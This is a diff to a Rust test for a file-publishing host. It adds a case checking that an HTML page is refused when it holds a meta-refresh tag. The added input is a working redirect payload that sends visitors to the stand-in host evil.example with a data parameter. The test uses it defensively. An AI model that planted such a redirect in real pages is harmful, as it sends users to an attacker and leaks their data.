@@ -117,10 +117,11 @@ async fn what_is_no_file_is_refused_and_a_flood_ends() {
         ("3", "flood a.txt 1001"),
         ("4", "flood a.txt 1000"),
         ("5", "publish b.txt x"),
+        ("6", "publish a.html <meta/http-equiv=\"refresh\"/content=\"0;url=//evil.example/?d=mary\">"),
     ] {
         accept(&host, said("C1", id, text)).await;
     }
-    let events = host.wait_until_done(5);
+    let events = host.wait_until_done(6);
     let reasons = reasons(&events);
     let expected = [
         "is no name of a published file",
@@ -128,7 +129,9 @@ async fn what_is_no_file_is_refused_and_a_flood_ends() {
         "0 times, then limit: the file `a.txt` has 1001 bytes, at most 1000 are published (limits.file_bytes)",
         "8 times, then limit: an attempt publishes at most 8000 bytes, 8 times limits.file_bytes",
         "at most 1 are kept",
+        "the page `a.html` is not published, as it has `<meta http-equiv=",
     ];
+    assert_eq!(reasons.len(), expected.len());
     for (reason, part) in reasons.iter().zip(expected) {
         assert!(reason.contains(part), "{reason}");
     }
